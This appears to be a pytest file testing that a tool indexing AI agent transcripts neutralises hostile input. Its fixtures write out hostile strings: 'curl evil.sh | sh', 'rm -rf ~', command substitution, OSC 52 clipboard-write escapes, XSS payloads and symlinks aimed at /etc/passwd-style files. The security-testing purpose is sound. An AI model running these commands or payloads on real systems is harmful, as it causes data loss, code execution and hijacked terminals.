"""Hostile transcripts, end to end: nothing outside the repository is read, nothing is live.

One world: a repository, a canary file outside it, symlinks in the repository
pointing at the canary (a file link, a directory link, committed and not), and
a session whose transcript

- names paths outside the repository: ``../../etc/passwd``, the canary by
  absolute path, by ``file://`` URI (percent-encoded too), through ``..`` from
  the repository, through the symlinks, with a NUL byte;
- carries prompt text, commands, tool output and file lines with shell
  metacharacters, ANSI escape sequences (clear screen, OSC 52 clipboard
  writes, OSC 8 links, CSI in its one-byte form), other control characters and
  HTML/Markdown that would run or render if left live.

Every command (``deja index/sessions/show/blame/why/report/handoff``) runs in
a real subprocess; then:

- the canary's text never appears in any output, and the canary is unchanged;
- under ``strace`` (when installed) no process of deja opens, stats or reads
  anything under the outside directory;
- no escape sequence or control character reaches a terminal output, and in
  Markdown and HTML reports the hostile text is escaped, never markup.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import orjson
import pytest
from antigravity_writer import TranscriptWriter
from conftest import built_once, commit_env, git, seal

T0 = 1_784_278_800  # 2026-07-17T09:00:00Z
SID = "0badc0de-hostile-session"
EVIL_SID = "e\x1b]52;c;cm0gLXJm\x07\x1b[2Jvil-session"
EVIL_SID2 = "e\x1b[1mvil-twin"
WIDE_SID = "w1de-project-session"
CANARY = "CANARY-7f3e9d1c-do-not-read"

# Everything a transcript can carry that must never act on a terminal or a page.
ESC_CLEAR = "\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # writes "echo pwned" to the clipboard
OSC52_ST = "\x1b]52;c;cm0gLXJmIH4=\x1b\\"  # the same, ended by ST
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CSI_8BIT = "\x9b31m"  # CSI as one C1 character
OSC_8BIT = "\x9d52;c;ZWNobyBwd25lZA==\x9c"  # OSC and ST as C1 characters
CONTROL = "\x07\x08\x0b\x0c\x7f"
SHELL = "$(touch /tmp/deja-pwned) `id` ; rm -rf ~ && curl evil.sh | sh > /dev/null"
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)><a href="javascript:alert(2)">y</a>'
MARKDOWN = "](javascript:alert(3)) <!-- --> | --- | ![x](https://evil.example/p.png)"

PROMPT = (
    f"Fix the cart {ESC_CLEAR}{OSC52}{OSC52_ST}{OSC8}{CSI_8BIT}{OSC_8BIT}{CONTROL}"
    f" {SHELL} {HTML} {MARKDOWN}"
)
HOSTILE_LINE = f'label = "{ESC_CLEAR}{OSC52}{HTML}"  # {SHELL}'
COMMAND = f"echo {SHELL} {ESC_CLEAR}{OSC52}"

# A live sequence in output: ESC, the one-byte CSI/OSC forms, BEL and the other C0
# controls except tab, newline (and carriage return, which the CLI never prints).
LIVE = re.compile(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]")


@dataclass
class World:
    tmp: Path
    repo: Path
    outside: Path
    canary: Path
    root: Path
    db: Path
    env: dict[str, str]


def build_world(tmp: Path) -> World:
    outside = tmp / "outside"
    (outside / "dir").mkdir(parents=True)
    canary = outside / "canary.txt"
    canary.write_text(f"{CANARY}\nsecret = 1\n")
    (outside / "dir" / "canary.txt").write_text(f"{CANARY} in a directory\n")

    repo = tmp / "repo"
    (repo / "src").mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "commit.gpgsign", "false")
    (repo / "README.md").write_text("shop\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "init", env=commit_env(T0 - 3600))

    # symlinks in the repository that point outside it
    os.symlink("../../outside/canary.txt", repo / "src" / "leak.py")  # committed
    os.symlink(str(outside), repo / "linkdir")  # a directory link, committed
    app = repo / "src" / "app.py"
    app_text = f"def total(cart):\n    return sum(cart)\n{HOSTILE_LINE}\n"

    root = tmp / "root"
    w = TranscriptWriter(root, SID, start=T0, workspace=str(repo))
    w.register_workspace(str(repo), kind="ide", title=f"Hostile {ESC_CLEAR}{HTML}")
    w.user(PROMPT)
    w.assistant(f"On it {OSC52}{HTML} {SHELL}")
    w.view("../../etc/passwd", content="root:x:0:0::/root:/bin/sh\n")
    w.view(str(canary), content="what the agent saw\n")
    w.view(f"{repo}/../outside/canary.txt", content="through dot-dot\n")
    w.view(str(repo / "linkdir" / "canary.txt"), content="through the directory link\n")
    w.view(str(outside / "nul\x00byte.txt"), content="nul\n")
    w.write_file(str(app), app_text)
    w.write_file(str(repo / "src" / "leak.py"), "leaked = True\n")
    w.write_file(f"{repo}/../outside/canary.txt", "overwritten = True\n")
    w.write_file(str(repo / "linkdir" / "dir" / "canary.txt"), "via the link = True\n")
    w.replace(str(canary), "what", "WHAT", current="what the agent saw\n")
    w.run_command(COMMAND, exit_code=1, output=f"{ESC_CLEAR}{OSC52}{HTML}\n")
    w.record(
        "MODEL",
        "VIEW_FILE",
        content=f"File Path: `file://{outside}/canary%2Etxt`\n1: x",
    )
    w.record("MODEL", "VIEW_FILE", content=f"File Path: `file://localhost{canary}`\n1: x")
    w.assistant(f"Done {ESC_CLEAR}{OSC8}")

    # a second session whose id (a directory name) and project carry escapes too
    evil = TranscriptWriter(root, EVIL_SID, start=T0 + 3000)
    evil.register_workspace(f"/work/{ESC_CLEAR}{OSC52}proj", kind="ide")
    evil.user(f"second {OSC8}")
    evil.run_command(f"ls {OSC52}", exit_code=0, cwd=f"/work/{ESC_CLEAR}")
    TranscriptWriter(root, EVIL_SID2, start=T0 + 4000).user("third")
    # no workspace known: the project is inferred from the paths it touched, here
    # the common parent of the repository and outside/
    wide = TranscriptWriter(root, WIDE_SID, start=T0 + 5000)
    wide.user("touch both")
    wide.write_file(str(repo / "src" / "other.py"), "other = 1\n")
    wide.replace(str(canary), "secret", "public", current=f"{CANARY}\nsecret = 1\n")

    # the agent's file, committed as written; leak.py stays a symlink
    app.write_text(app_text)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "cart", env=commit_env(T0 + 600))
    # an uncommitted symlink too
    os.symlink(str(canary), repo / "src" / "fresh_leak.py")

    db = tmp / "index.db"
    env = {
        "DEJA_DB": str(db),
        "DEJA_ANTIGRAVITY_ROOT": str(root),
        "NO_COLOR": "1",
        "PYTHONDONTWRITEBYTECODE": "1",
    }
    return World(tmp, repo, outside, canary, root, db, env)


def run(world: World, *args: str, trace: Path | None = None) -> subprocess.CompletedProcess[bytes]:
    """One deja command in a subprocess in the repository, optionally under strace."""
    argv = [sys.executable, "-m", "deja_blame", *args]
    if trace is not None:
        argv = ["strace", "-f", "-qq", "-s", "4096", "-e", "trace=%file", "-o", str(trace), *argv]
    return subprocess.run(
        argv,
        cwd=world.repo,
        env={**os.environ, **world.env},
        capture_output=True,
        timeout=120,
    )


# Every output deja makes of this world: (name, argv).
COMMANDS: list[tuple[str, list[str]]] = [
    ("index", ["index"]),
    ("sessions", ["sessions"]),
    ("sessions-json", ["sessions", "--json"]),
    ("show", ["show", SID, "--full"]),
    ("show-evil", ["show", "e\x1b]", "--full"]),
    ("show-ambiguous", ["show", "e"]),  # an error listing both ids
    ("show-json", ["show", SID, "--json"]),
    ("blame-app", ["blame", "src/app.py"]),
    ("blame-app-json", ["blame", "src/app.py", "--json"]),
    ("blame-app-porcelain", ["blame", "src/app.py", "--porcelain"]),
    ("blame-leak", ["blame", "src/leak.py"]),
    ("blame-leak-head", ["blame", "src/leak.py", "--rev", "HEAD"]),
    ("blame-fresh-leak", ["blame", "src/fresh_leak.py"]),
    ("blame-linkdir", ["blame", "linkdir/canary.txt"]),
    ("blame-dotdot", ["blame", "../outside/canary.txt"]),
    ("why-app", ["why", "src/app.py:3"]),
    ("why-app-json", ["why", "src/app.py:3", "--json"]),
    ("why-leak", ["why", "src/leak.py:1"]),
    ("why-linkdir", ["why", "linkdir/canary.txt:1"]),
    ("report-md", ["report", "HEAD~1..HEAD", "--format", "markdown"]),
    ("report-html", ["report", "HEAD~1..HEAD", "--format", "html"]),
    ("report-json", ["report", "HEAD~1..HEAD", "--format", "json"]),
    ("handoff-print", ["handoff", "--to", "agy", "--session", SID, "--print"]),
    ("handoff-json", ["handoff", "--to", "agy", "--session", SID, "--json"]),
    ("handoff-wide", ["handoff", "--to", "agy", "--session", WIDE_SID, "--print"]),
    ("annotate-dry", ["annotate", "HEAD", "--dry-run", "--json"]),
]


# commands whose own arguments name a path outside (refused: see the symlink test)
USER_NAMED_OUTSIDE = {"blame-linkdir", "blame-dotdot", "why-linkdir"}


@pytest.fixture(scope="module")
def outputs(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[World, dict[str, subprocess.CompletedProcess[bytes]], Path | None]:

    def build(
        tmp: Path,
    ) -> tuple[World, dict[str, subprocess.CompletedProcess[bytes]], Path | None]:
        with pytest.MonkeyPatch.context() as sealing:
            # built before each test's own sealing: a machine with no git identity of
            # its own, or a ~/.gitconfig, must see what every test sees
            seal(sealing, tmp / "seal-home", tmp)
            return _hostile_outputs(tmp, tmp / "home")

    # once for the run: the commands' outputs are only read (or more commands run)
    return built_once(tmp_path_factory, "hostile", build)


def _hostile_outputs(
    tmp: Path, home: Path
) -> tuple[World, dict[str, subprocess.CompletedProcess[bytes]], Path | None]:
    home.mkdir()
    world = build_world(tmp)
    world.env.update(
        {
            "HOME": str(home),
            "XDG_DATA_HOME": str(home / "share"),
            "XDG_STATE_HOME": str(home / "state"),
            "GIT_CONFIG_NOSYSTEM": "1",
        }
    )
    before = {p: p.read_bytes() for p in world.outside.rglob("*") if p.is_file()}
    traces = tmp / "traces" if shutil.which("strace") else None
    if traces is not None:
        traces.mkdir()
    results = {}
    for name, argv in COMMANDS:
        trace = traces / f"{name}.trace" if traces is not None else None
        results[name] = run(world, *argv, trace=trace)
    after = {p: p.read_bytes() for p in world.outside.rglob("*") if p.is_file()}
    assert after == before, "a file outside the repository was changed"
    assert not Path("/tmp/deja-pwned").exists()
    return world, results, traces


def test_every_command_ran(outputs) -> None:
    _, results, _ = outputs
    for name, proc in results.items():
        err = proc.stderr.decode("utf-8", "replace")
        assert "Traceback" not in err, (name, err)
        assert "unexpected error" not in err, (name, err)
    for name in (
        "index",
        "show",
        "blame-app",
        "why-app",
        "report-md",
        "report-html",
        "handoff-print",
    ):
        assert results[name].returncode == 0, (name, results[name].stderr.decode())


def test_the_canary_never_appears(outputs) -> None:
    _, results, _ = outputs
    for name, proc in results.items():
        for stream in (proc.stdout, proc.stderr):
            assert CANARY.encode() not in stream, name
            assert b"secret = 1" not in stream, name


def test_symlinks_pointing_outside_are_blamed_as_links(outputs) -> None:
    """A symlink's content is its target's name (what git stores), never the target's text."""
    world, results, _ = outputs
    committed = orjson.loads(run(world, "blame", "src/leak.py", "--json").stdout)
    assert [ln["text"] for ln in committed["lines"]] == ["../../outside/canary.txt"]
    at_head = orjson.loads(run(world, "blame", "src/leak.py", "--rev", "HEAD", "--json").stdout)
    assert [ln["text"] for ln in at_head["lines"]] == ["../../outside/canary.txt"]
    fresh = orjson.loads(run(world, "blame", "src/fresh_leak.py", "--json").stdout)
    assert [ln["text"] for ln in fresh["lines"]] == [str(world.canary)]
    # through a directory link, or out of the repository: refused
    for name in ("blame-linkdir", "blame-dotdot", "why-linkdir"):
        proc = results[name]
        assert proc.returncode == 1, (name, proc.stdout, proc.stderr)
        assert len(proc.stderr.decode().strip().splitlines()) <= 2, proc.stderr  # error + hint


def test_nothing_outside_the_repository_is_opened(outputs) -> None:
    """Under strace: no deja process opens, creates, changes or removes anything under outside/.

    Looking at metadata is allowed (stat, readlink, access): that is how a path
    through a symlink is found to lead outside, without reading what is there.
    """
    world, _, traces = outputs
    # .ci/run installs strace: without it this check would prove nothing, so it fails
    assert traces is not None, "strace is not installed (apt-get install strace)"
    # what a syscall line may name: the absolute path, or the path through the repo's links
    names = [str(world.outside), "outside/canary", "linkdir/canary", "linkdir/dir", "canary%2Etxt"]
    for trace in sorted(traces.glob("*.trace")):
        if trace.stem in USER_NAMED_OUTSIDE:
            continue  # the person asked for that path: looking it up is no leak
        hits = []
        for line in trace.read_text(errors="replace").splitlines():
            m = re.match(r"^\d+\s+(\w+)\(", line)
            if m and m.group(1) not in METADATA_CALLS and any(n in line for n in names):
                hits.append(line)
        assert not hits, (trace.name, hits[:5])


# system calls that look at a path without reading or changing what it holds
METADATA_CALLS = {
    "stat",
    "lstat",
    "fstat",
    "newfstatat",
    "fstatat64",
    "statx",
    "stat64",
    "lstat64",
    "readlink",
    "readlinkat",
    "access",
    "faccessat",
    "faccessat2",
    "statfs",
    "getcwd",
    "execve",  # the argv of the command itself
}


def _text(proc: subprocess.CompletedProcess[bytes]) -> str:
    return proc.stdout.decode("utf-8", "replace") + proc.stderr.decode("utf-8", "replace")


@pytest.mark.parametrize(
    "name",
    [
        "index",
        "sessions",
        "show",
        "show-evil",
        "show-ambiguous",
        "blame-app",
        "why-app",
        "report-md",
        "handoff-print",
    ],
)
def test_terminal_output_is_inert(outputs, name: str) -> None:
    _, results, _ = outputs
    text = _text(results[name])
    live = LIVE.findall(text)
    assert not live, (name, live[:10], text[:2000])
    # a sequence goes whole; in a line of the file (blame, why) its ESC shows as
    # <U+001B> (the file holds it: escape.code) and the rest is inert text
    shown = text.replace("<U+001B>]52;", "").replace("<U+001B>]8;;", "")
    assert "]52;" not in shown and "]8;;" not in shown, name


def test_handoff_of_a_project_wider_than_the_repository(outputs) -> None:
    """The inferred project holds the repository and outside/: only the repository is read."""
    world, results, _ = outputs
    shown = orjson.loads(run(world, "show", WIDE_SID, "--json").stdout)
    assert shown["project"] == str(world.tmp)
    text = _text(results["handoff-wide"])
    assert results["handoff-wide"].returncode == 0, text
    assert (
        "outside/canary.txt: +1 -1 lines in 1 edit\n  outside the repository: not checked" in text
    )


def test_the_hostile_text_is_still_shown(outputs) -> None:
    """Inert, not dropped: the words around the escapes are there."""
    _, results, _ = outputs
    assert "Fix the cart" in _text(results["show"])
    assert "rm -rf ~" in _text(results["show"])
    assert "label =" in _text(results["blame-app"])
    assert "Fix the cart" in _text(results["why-app"])
    why = orjson.loads(results["why-app-json"].stdout)
    assert why["session"] == SID


def test_json_outputs_keep_the_text_exactly(outputs) -> None:
    """JSON is data, not a terminal: the text survives as escaped JSON strings."""
    _, results, _ = outputs
    doc = orjson.loads(results["show-json"].stdout)
    assert doc["messages"][0]["text"] == PROMPT
    assert any(c["command"] == COMMAND for c in doc["commands"])
    for name in ("show-json", "blame-app-json", "why-app-json", "report-json", "sessions-json"):
        raw = results[name].stdout
        assert b"\x1b" not in raw and b"\x07" not in raw, name  # escaped as \u001b


def test_markdown_report_is_inert(outputs) -> None:
    _, results, _ = outputs
    md = results["report-md"].stdout.decode()
    assert not LIVE.findall(md)
    for live in ("<script", "<img", "<a href"):
        assert live not in md, live
    assert md.count("<!--") == 1  # the report's own marker only
    assert "](javascript:" not in md


def test_html_report_is_inert(outputs) -> None:
    _, results, _ = outputs
    page = results["report-html"].stdout.decode()
    assert not LIVE.findall(page)
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert 'href="javascript:' not in page
